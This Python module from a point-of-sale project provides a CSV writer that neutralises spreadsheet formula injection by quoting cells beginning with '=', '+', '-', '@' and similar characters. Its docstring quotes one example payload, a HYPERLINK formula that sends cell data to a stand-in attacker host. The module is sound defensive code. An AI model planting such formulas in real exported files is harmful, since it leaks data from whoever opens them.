"""Writing CSV that a spreadsheet cannot run: the one helper every CSV the till writes uses.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is read
by Excel, LibreOffice and Google Sheets as a formula: a product named
``=HYPERLINK("http://evil.example/?"&A1,"Click")`` in an exported report leaks data or
runs commands on the manager's computer (CSV or formula injection). OWASP's rule is
applied: such a text cell is prefixed with a single quote, which spreadsheets show as
text, and the CSV module quotes whatever needs quoting. Full-width variants of those
characters, which some spreadsheets also take for formulas, are treated the same.

Numbers (``int``, ``Decimal``; never ``bool``) are written as numbers, so a refund of
-5.00 stays a number a spreadsheet can add; pass amounts as numbers, not as text.

Use :func:`writer` (or :func:`cell` per value) for every CSV Kaunta writes; a test refuses
``csv.writer`` anywhere else in ``pos``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

#: first characters a spreadsheet reads as the start of a formula (OWASP), and their
#: full-width forms
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet will show it, never run it: a quote before a formula start."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cell(value: object) -> str | int | Decimal:
    """One CSV cell: numbers as numbers, ``None`` as empty, everything else neutralised text."""
    if value is None:
        return ""
    if isinstance(value, int | Decimal) and not isinstance(value, bool):
        return value
    return neutralise(str(value))


class SafeWriter:
    """``csv.writer`` whose every row goes through :func:`cell`."""

    def __init__(self, stream: _Writable, **fmt: Any) -> None:
        self._writer = csv.writer(stream, **fmt)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: _Writable, **fmt: Any) -> SafeWriter:
    """A CSV writer over ``stream`` (opened with ``newline=""``) that neutralises formulas."""
    return SafeWriter(stream, **fmt)
